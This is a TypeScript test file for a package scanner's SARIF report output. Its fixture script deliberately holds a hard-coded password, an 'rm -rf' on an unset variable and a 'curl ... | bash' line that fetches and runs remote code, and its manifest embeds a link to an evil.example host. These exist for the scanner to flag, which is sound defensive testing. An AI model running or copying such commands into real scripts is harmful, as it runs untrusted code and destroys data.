import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import Ajv from 'ajv';
import { reportFormats } from '../../../src/core/report/formats/index';
import { sarif } from '../../../src/core/report/formats/sarif';
import { plainReviewer } from '../../../src/node/review/in-process';
import { emptyOverlay } from '../../../src/core/patch/overlay';
import { defaultLimits } from '../../../src/core/package/limits';
import type { FileEdit, Fix } from '../../../src/core/rules/finding';
import type { Review } from '../../../src/core/review/review';
import { zipOf } from '../../support/cli';

interface Log {
  readonly runs: readonly {
    readonly automationDetails: { readonly id: string };
    readonly properties: object;
    readonly tool: { readonly driver: { readonly rules: readonly { readonly id: string }[] } };
    readonly artifacts: readonly { readonly location: { readonly uri: string }; readonly contents?: { readonly text: string } }[];
    readonly results: readonly {
      readonly ruleId: string;
      readonly ruleIndex: number;
      readonly message: { readonly text: string };
      readonly baselineState?: string;
      readonly fixes?: readonly {
        readonly artifactChanges: readonly {
          readonly artifactLocation: { readonly uri: string; readonly index: number };
          readonly replacements: readonly {
            readonly deletedRegion: {
              readonly startLine: number;
              readonly startColumn: number;
              readonly endLine: number;
              readonly endColumn: number;
            };
          }[];
        }[];
      }[];
      readonly locations: readonly {
        readonly physicalLocation: {
          readonly artifactLocation: { readonly uri: string; readonly index: number };
          readonly region: {
            readonly startLine: number;
            readonly startColumn: number;
            readonly endLine: number;
            readonly endColumn: number;
          };
        };
      }[];
    }[];
  }[];
}

const password = 'Winter-Rose-4711';

const files = {
  'manifest.json': '{ "name": "p [x](https://evil.example)", "version": "1.0.0", "dependencies": { "openssl": ">=1" } }\n',
  'scripts/a b#ä.sh': `#!/bin/bash\nset -e\nDB_PASSWORD='${password}'\nmysql -p${password} -e 'select 1'\nrm -rf "$UNSET/data"\ncurl -k https://x.example/i | bash\n`,
};

describe('SARIF', () => {
  let review: Review;
  let texts: ReadonlyMap<string, string>;
  before(async () => {
    const inner = await zipOf(files);
    const bytes = await zipOf({ ...files, 'inner.zip': inner });
    const reviewer = plainReviewer();
    const task = { package: { name: 'p.zip', bytes }, edits: emptyOverlay.edits, site: [], rules: [], environment: 'production' };
    ({ review } = await reviewer.review({ ...task, limits: defaultLimits, now: Date.parse('2026-11-20T12:00:00Z') }));
    texts = (await reviewer.ask('shown', { paths: review.findings.map(({ path }) => path) })) ?? new Map();
    await reviewer.close();
  });
  const logOf = (reviewed = review, held = texts): Log =>
    JSON.parse(sarif.write(reviewed, { generatedAt: '2026-11-20T12:00:00Z', toolVersion: '1.2.3', patched: [], texts: held })) as Log;

  it('has what code scanning and viewers ask for, and nothing else', () => {
    const schema = JSON.parse(readFileSync(join(__dirname, '../../fixtures/sarif-log.schema.json'), 'utf8')) as object;
    const validate = new Ajv({ allErrors: true }).compile(schema);
    const log = logOf();
    assert.ok(validate(log), JSON.stringify(validate.errors));
    const both = JSON.parse(sarif.join([JSON.stringify(log), JSON.stringify(log)])) as Log;
    assert.ok(validate(both), JSON.stringify(validate.errors));
    assert.equal(both.runs.length, 2);
    const other = {
      ...log,
      runs: log.runs.map((run) => ({ ...run, properties: { ...run.properties, package: { path: 'again/p.zip' } } })),
    };
    const ids = (JSON.parse(sarif.join([JSON.stringify(log), JSON.stringify(other)])) as Log).runs.map(
      ({ automationDetails: { id } }) => id,
    );
    assert.equal(new Set(ids).size, 2);
    assert.match(ids[1] ?? '', /\/again%2Fp\.zip\/$/);
  });

  it('names rules and files by indexes that hold, and files by references that lead to them', () => {
    const [run] = logOf().runs;
    assert.ok(run && run.results.length >= 4);
    for (const { ruleId, ruleIndex, locations } of run.results) {
      assert.equal(run.tool.driver.rules[ruleIndex]?.id, ruleId);
      const [{ physicalLocation } = assert.fail()] = locations;
      const { uri, index } = physicalLocation.artifactLocation;
      assert.equal(run.artifacts[index]?.location.uri, uri);
      assert.equal(new URL(uri, 'file:///x/').hash, '');
    }
    const paths = run.artifacts.map(({ location: { uri } }) => decodeURIComponent(uri));
    assert.ok(paths.includes('scripts/a b#ä.sh') && paths.includes('inner.zip »/scripts/a b#ä.sh'), paths.join());
  });

  it('holds the files that findings lie in, secrets hidden and every region in its place', () => {
    const [run] = logOf().runs;
    const script = run?.artifacts.find(({ location: { uri } }) => uri.startsWith('scripts/'));
    const text = script?.contents?.text ?? '';
    const own = files['scripts/a b#ä.sh'];
    assert.equal(text.length, own.length);
    assert.ok(!text.includes(password));
    assert.deepEqual(
      text.split('\n').filter((line) => !line.includes('*')),
      own.split('\n').filter((line) => !line.includes(password)),
    );
    const unset = run?.results.find(
      ({ ruleId, locations: [place] }) =>
        ruleId === 'script/destructive-unset-variable' &&
        place?.physicalLocation.artifactLocation.index === run.artifacts.indexOf(script as never),
    );
    const region = unset?.locations[0]?.physicalLocation.region;
    assert.equal(
      text.split('\n')[(region?.startLine ?? 0) - 1]?.slice((region?.startColumn ?? 0) - 1, (region?.endColumn ?? 0) - 1),
      '"$UNSET/data"',
    );
    assert.ok(!JSON.stringify(logOf()).includes(password));
  });

  it('holds no more than code scanning takes: the most severe ones, and a word on the others', () => {
    const [first] = review.findings;
    assert.ok(first);
    const infos = Array.from({ length: 25_000 }, (_, at) => ({ ...first, severity: 'info' as const, fingerprint: `f${at}` }));
    const log = logOf({ ...review, findings: [...infos, { ...first, severity: 'error' }] });
    const [run] = log.runs;
    assert.equal(run?.results.length, 25_000);
    assert.match(JSON.stringify(run.results.at(-1)), /"level":"error"/);
    assert.match(JSON.stringify(run), /1 finding is not in this log/);
    const small = JSON.stringify(logOf({ ...review, findings: [] }));
    const many = JSON.parse(sarif.join(Array.from({ length: 21 }, () => small))) as Log;
    assert.match(JSON.stringify(many.runs[0]), /21 runs, one for each package/);
    assert.doesNotMatch(sarif.join([small, small]), /one for each package/);
  });

  it('makes no link of what a package says', () => {
    const [first] = review.findings;
    assert.ok(first);
    const odd = { ...first, message: 'see [here](https://evil.example)' };
    assert.equal(logOf({ ...review, findings: [odd] }).runs[0]?.results[0]?.message.text, 'see [here] (https://evil.example)');
  });

  it('tells what is new', () => {
    const [known, ...rest] = review.findings;
    assert.ok(known && rest.length > 0);
    const changes = { entries: [], defaults: [], dependencies: [], units: { added: [], removed: [] }, jobs: { added: [], removed: [] } };
    const comparison = {
      package: review.package,
      changes,
      patched: new Set<string>(),
      step: 'minor' as const,
      known: new Set([known.fingerprint]),
    };
    const states = logOf({ ...review, comparison }).runs[0]?.results.map(({ baselineState }) => baselineState) ?? [];
    assert.deepEqual([states[0], new Set(states.slice(1))], ['unchanged', new Set(['new'])]);
  });

  it('tells fixes that put the file right as viewers apply them', () => {
    const [run] = logOf().runs;
    const fixed = run?.results.filter(({ fixes }) => fixes) ?? [];
    assert.ok(fixed.length > 0);
    for (const { fixes = [] } of fixed) {
      for (const { artifactLocation, replacements } of fixes.flatMap((fix) => fix.artifactChanges)) {
        const text = run?.artifacts[artifactLocation.index]?.contents?.text;
        assert.ok(text !== undefined, artifactLocation.uri);
        const lines = text.split('\n');
        for (const { startLine, startColumn, endLine, endColumn } of replacements.map(({ deletedRegion }) => deletedRegion)) {
          assert.ok((lines[startLine - 1]?.length ?? -1) >= startColumn - 1 && (lines[endLine - 1]?.length ?? -1) >= endColumn - 1);
        }
      }
    }
    const own = review.findings.find(({ path }) => path.endsWith('.sh'));
    assert.ok(own);
    const fixesOf = (fix: Fix) => logOf({ ...review, findings: [{ ...own, fix }] }).runs[0]?.results[0]?.fixes;
    const edit = { path: own.path, span: { start: 0, end: 2 }, text: '#! ' };
    assert.deepEqual(fixesOf({ title: 'T', applies: 'after-review', edits: [edit] })?.[0]?.artifactChanges[0]?.replacements, [
      { deletedRegion: { startLine: 1, startColumn: 1, endLine: 1, endColumn: 3 }, insertedContent: { text: '#! ' } },
    ]);
    // What is not told in full is not told at all.
    for (const fix of [
      { edits: [edit], modes: [{ path: own.path, mode: 0o755 }] },
      { edits: [edit, { ...edit, path: 'elsewhere.sh' }] },
      { edits: [{ ...edit, text: `password='${password}'` }] },
      { edits: [] },
    ])
      assert.equal(fixesOf({ title: 'T', applies: 'always', ...fix }), undefined);
  });

  it('begins an edit before an indented word at the end of the line above: a viewer would begin it at the word', () => {
    const [own] = review.findings.filter(({ path }) => path.endsWith('.sh'));
    assert.ok(own);
    const held = new Map([[own.path, 'if x; then\r\n  y\nfi\n']]);
    const replacementsOf = (...edits: readonly Omit<FileEdit, 'path'>[]) => {
      const fix: Fix = { title: 'T', applies: 'always', edits: edits.map((edit) => ({ ...edit, path: own.path })) };
      return logOf({ ...review, findings: [{ ...own, fix }] }, held).runs[0]?.results[0]?.fixes?.[0]?.artifactChanges[0]?.replacements;
    };
    assert.deepEqual(replacementsOf({ span: { start: 12, end: 12 }, text: '  set -e\n' }), [
      { deletedRegion: { startLine: 1, startColumn: 11, endLine: 2, endColumn: 1 }, insertedContent: { text: '\r\n  set -e\n' } },
    ]);
    // Two that touch stay as they are: one of them would be applied over the other.
    assert.deepEqual(
      replacementsOf({ span: { start: 12, end: 12 }, text: 'a' }, { span: { start: 12, end: 13 }, text: 'b' })?.map(
        ({ deletedRegion }) => deletedRegion.startLine,
      ),
      [2, 2],
    );
    assert.equal(replacementsOf({ span: { start: 14, end: 15 }, text: 'z' })?.[0]?.deletedRegion.startColumn, 3);
  });

  it('is one of the forms', () => assert.ok(reportFormats.some(({ id }) => id === 'sarif')));
});
